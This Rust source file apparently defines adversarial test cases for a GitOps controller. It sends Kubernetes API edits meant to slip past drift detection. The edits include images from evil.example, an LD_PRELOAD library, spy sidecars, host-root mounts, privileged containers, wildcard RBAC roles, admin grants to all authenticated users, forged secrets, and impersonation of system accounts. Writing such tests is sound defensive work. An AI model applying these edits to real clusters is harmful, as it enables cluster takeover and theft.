//! Edits of what Git declares, in every form that the API server takes.

use serde_json::json;

use super::at;
use crate::attack::Identity::{NamespaceAdmin, StolenReconcilerToken};
use crate::attack::{Attack, Body, Content, any, json_patch, merge, patch, put, request};
use crate::report::Section;

pub fn section() -> Section {
    let attacks = [forms(), additions(), half_units(), versions(), kinds()].concat();
    Section { title: "Edits", attacks }
}

fn apply(what: &'static str, path: &str, body: serde_json::Value) -> Attack {
    patch(what, path, Content::Apply, body)
}

fn image(image: &str) -> serde_json::Value {
    json!({"spec": {"template": {"spec": {"containers": [{"name": "web", "image": image}]}}}})
}

fn forms() -> Vec<Attack> {
    let scaled = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "web", "namespace": "shop"},
        "spec": {"replicas": 5}});
    vec![
        patch("another image", at::WEB, Content::Strategic, image("evil.example/web:1")),
        patch("another image", at::WEB, Content::Strategic, image("evil.example/web:1")).by(NamespaceAdmin),
        patch("another image", at::WEB, Content::Strategic, image("evil.example/web:1")).by(StolenReconcilerToken),
        patch("another image", at::WEB, Content::Strategic, image("evil.example/web:1"))
            .impersonating("system:serviceaccount:kube-system:deployment-controller"),
        patch("another image", at::WEB, Content::Strategic, image("evil.example/web:1"))
            .impersonating("system:apiserver"),
        json_patch("more replicas", at::WEB, json!([{"op": "replace", "path": "/spec/replicas", "value": 5}])),
        merge("more replicas", at::WEB, json!({"spec": {"replicas": 5}})),
        merge("more replicas", at::WEB, json!({"spec": {"replicas": 5}}))
            .impersonating("system:serviceaccount:kube-system:horizontal-pod-autoscaler"),
        put("more replicas", at::WEB, |o| o["spec"]["replicas"] = json!(5)),
        put("the whole template", at::WEB, |o| {
            o["spec"]["template"]["spec"] = json!({"containers": [{"name": "web", "image": "evil.example/web:1"}]});
        }),
        apply("more replicas, forced", &format!("{}?fieldManager=mallory&force=true", at::WEB), scaled.clone()),
        apply(
            "more replicas in gitadel's name, forced",
            &format!("{}?fieldManager=gitadel&force=true", at::WEB),
            scaled,
        ),
        apply(
            "no data, in gitadel's name, forced",
            &format!("{}?fieldManager=gitadel&force=true", at::SETTINGS),
            json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "settings"}, "data": {"colour": "red"}}),
        ),
        any(
            "another colour",
            request("PUT", at::SETTINGS, Content::Protobuf, Body::Retyped { from: "blue", to: "pink" }),
        ),
        any(
            "another image",
            request(
                "PUT",
                at::WEB,
                Content::Protobuf,
                Body::Retyped { from: "registry.example", to: "evil.example.org" },
            ),
        ),
        put("managedFields cleared", at::SETTINGS, |o| o["metadata"]["managedFields"] = json!([{}]))
            .harmless("bookkeeping: no decision reads it"),
        put("managedFields cleared, and an edit", at::SETTINGS, |o| {
            o["metadata"]["managedFields"] = json!([{}]);
            o["data"]["colour"] = json!("red");
        }),
        merge("a label", at::WEB, json!({"metadata": {"labels": {"app": "other"}}})).impersonating("system:node:n1"),
    ]
}

fn additions() -> Vec<Attack> {
    let container = "/spec/template/spec/containers/0";
    let add = |path: &str, value: serde_json::Value| json!([{"op": "add", "path": path, "value": value}]);
    vec![
        json_patch(
            "an environment variable",
            at::WEB,
            add(&format!("{container}/env/-"), json!({"name": "LD_PRELOAD", "value": "/tmp/evil.so"})),
        ),
        json_patch(
            "a sidecar",
            at::WEB,
            add("/spec/template/spec/containers/-", json!({"name": "spy", "image": "evil.example/spy"})),
        ),
        json_patch(
            "an init container",
            at::WEB,
            add("/spec/template/spec/initContainers", json!([{"name": "spy", "image": "evil.example/spy"}])),
        ),
        json_patch(
            "a volume of the host",
            at::WEB,
            add("/spec/template/spec/volumes", json!([{"name": "host", "hostPath": {"path": "/"}}])),
        ),
        json_patch("another account", at::WEB, add("/spec/template/spec/serviceAccountName", json!("clerk"))),
        json_patch(
            "a privileged container",
            at::WEB,
            add(&format!("{container}/securityContext"), json!({"privileged": true})),
        ),
        json_patch("a command", at::WEB, add(&format!("{container}/command"), json!(["sh", "-c", "evil"]))),
        json_patch("a toleration", at::WEB, add("/spec/template/spec/tolerations", json!([{"operator": "Exists"}]))),
        json_patch("a node", at::WEB, add("/spec/template/spec/nodeName", json!("n1"))),
        json_patch("a label", at::WEB, add("/metadata/labels/mine", json!("yes"))),
        json_patch("a label with an empty value", at::WEB, add("/metadata/labels/mine", json!(""))),
        json_patch("an annotation", at::SETTINGS, add("/metadata/annotations", json!({"mine": "yes"}))),
        json_patch(
            "an annotation with an empty value",
            at::SETTINGS,
            add("/metadata/annotations", json!({"mine": ""})),
        ),
        json_patch(
            "an annotation that might switch gitadel off",
            at::SETTINGS,
            add("/metadata/annotations", json!({"gitadel.dev/prune": "false", "gitadel.dev/recreate": "true"})),
        ),
        json_patch("a finalizer", at::SETTINGS, add("/metadata/finalizers", json!(["example.com/hold"]))),
        json_patch(
            "a label of another manager",
            at::WEB,
            add("/metadata/labels/app.kubernetes.io~1managed-by", json!("helm")),
        ),
        json_patch(
            "the last applied configuration of another object",
            at::SETTINGS,
            add(
                "/metadata/annotations",
                json!({"kubectl.kubernetes.io/last-applied-configuration":
                "{\"apiVersion\":\"v1\",\"kind\":\"ConfigMap\",\"metadata\":{\"name\":\"other\"},\"data\":{\"a\":\"b\"}}"}),
            ),
        ),
        json_patch("a binary twin of the data", at::SETTINGS, add("/binaryData", json!({"evil": "ZXZpbA=="}))),
        json_patch("another key", at::SETTINGS, add("/data/mine", json!(""))),
        json_patch("immutability", at::SETTINGS, add("/immutable", json!(true))),
        json_patch("a field that is always true by default", at::WEB, add("/spec/paused", json!(true))),
    ]
}

fn half_units() -> Vec<Attack> {
    let env = "/spec/template/spec/containers/0/env";
    vec![
        json_patch(
            "a list key twice",
            at::WEB,
            json!([{"op": "add", "path": format!("{env}/-"), "value": {"name": "COLOUR", "value": "red"}}]),
        ),
        json_patch(
            "another order",
            at::WEB,
            json!([{"op": "move", "from": format!("{env}/1"), "path": format!("{env}/0")}]),
        ),
        json_patch("an item of a list less", at::WEB, json!([{"op": "remove", "path": format!("{env}/1")}])),
        json_patch(
            "a selector without its labels: everything",
            at::POLICY,
            json!([{"op": "remove", "path": "/spec/podSelector/matchLabels"}]),
        ),
        json_patch(
            "a selector of everything",
            at::POLICY,
            json!([{"op": "replace", "path": "/spec/podSelector", "value": {}}]),
        ),
        json_patch("a Service without a selector", at::SERVICE, json!([{"op": "remove", "path": "/spec/selector"}])),
        json_patch(
            "an empty rule for none",
            at::POLICY,
            json!([{"op": "add", "path": "/spec/ingress", "value": [{}]}]),
        ),
        json_patch(
            "{} for what is absent",
            at::WEB,
            json!([{"op": "add", "path": "/spec/template/spec/affinity", "value": {}}]),
        ),
        merge("an empty map of data", at::SETTINGS, json!({"data": null})),
        json_patch(
            "a declared value beside one that is not",
            at::SETTINGS,
            json!([{"op": "replace", "path": "/data", "value": {"colour": "blue", "shade": "dark"}}]),
        ),
        json_patch(
            "a moved node port",
            at::SERVICE,
            json!([{"op": "replace", "path": "/spec/ports/0/nodePort", "value": 32123}]),
        ),
        json_patch(
            "another target port",
            at::SERVICE,
            json!([{"op": "replace", "path": "/spec/ports/0/targetPort", "value": 22}]),
        ),
        merge("outside addresses", at::SERVICE, json!({"spec": {"externalIPs": ["192.0.2.7"]}})),
        merge(
            "another name for elsewhere",
            at::SERVICE,
            json!({"spec": {"type": "ExternalName", "externalName": "evil.example"}}),
        ),
        merge("a control character", at::SETTINGS, json!({"data": {"colour": "blue\u{85}"}})),
        merge("an invisible character", at::SETTINGS, json!({"data": {"colour": "blue\u{200b}"}})),
        merge("a NUL", at::SETTINGS, json!({"data": {"colour": "blue\u{0}"}})),
        put("a number for a text", at::WIDGET, |o| o["spec"]["size"] = json!(1)),
    ]
}

fn versions() -> Vec<Attack> {
    vec![
        merge("more replicas, in the older version", at::AUTOSCALER_V1, json!({"spec": {"maxReplicas": 50}})),
        merge("more replicas, in the version of Git", at::AUTOSCALER, json!({"spec": {"maxReplicas": 50}})),
        put("more replicas, in the older version", at::AUTOSCALER_V1, |o| o["spec"]["maxReplicas"] = json!(50)),
        json_patch(
            "what only an annotation can say in the older version",
            at::AUTOSCALER_V1,
            json!([{"op": "add", "path": "/metadata/annotations", "value": {"autoscaling.alpha.kubernetes.io/behavior":
                "{\"ScaleUp\":{\"StabilizationWindowSeconds\":3600,\"SelectPolicy\":\"Max\",\"Policies\":[{\"Type\":\"Pods\",\"Value\":1,\"PeriodSeconds\":60}]}}"}}]),
        ),
        merge(
            "a bigger widget, in the other version of its CRD",
            at::WIDGET_V1BETA1,
            json!({"spec": {"size": "huge"}}),
        ),
        put("a bigger widget, in the other version of its CRD", at::WIDGET_V1BETA1, |o| {
            o["spec"]["size"] = json!("huge")
        }),
        merge("a bigger widget", at::WIDGET, json!({"spec": {"size": "huge"}})).by(StolenReconcilerToken),
    ]
}

fn kinds() -> Vec<Attack> {
    let everything = json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]);
    vec![
        merge("another password", at::PASSWORD, json!({"stringData": {"password": "stolen-staple"}})),
        merge("another token", at::TOKEN, json!({"stringData": {"token": "forged"}})),
        merge(
            "a token for another account",
            at::TOKEN,
            json!({"metadata": {"annotations": {"kubernetes.io/service-account.name": "default"}}}),
        ),
        merge("a role that may do everything", at::READER, json!({"rules": everything})),
        merge("a role that may do everything", at::READER, json!({"rules": everything}))
            .impersonating("system:serviceaccount:kube-system:clusterrole-aggregation-controller"),
        merge(
            "a role that is put together from all others",
            at::READER,
            json!({"aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"kubernetes.io/bootstrapping": "rbac-defaults"}}]}}),
        ),
        merge(
            "one more admin",
            at::ADMINS,
            json!({"subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:authenticated"}]}),
        ),
        merge(
            "a label that escapes a selection",
            at::NAMESPACE,
            json!({"metadata": {"labels": {"kubernetes.io/metadata.name": "kube-shop"}}}),
        )
        .harmless("the API server itself says what that label is"),
        merge(
            "a label for exemption of a policy",
            at::NAMESPACE,
            json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}),
        ),
        merge("a status that is data", at::NOTE, json!({"status": {"phase": "Forged"}})),
        merge("another text", at::NOTE, json!({"text": "second"})),
        merge("what was there before Git", at::OLD, json!({"data": {"a": "c"}})),
        merge("a role that was there before Git", at::OLD_READER, json!({"rules": everything})),
    ]
}
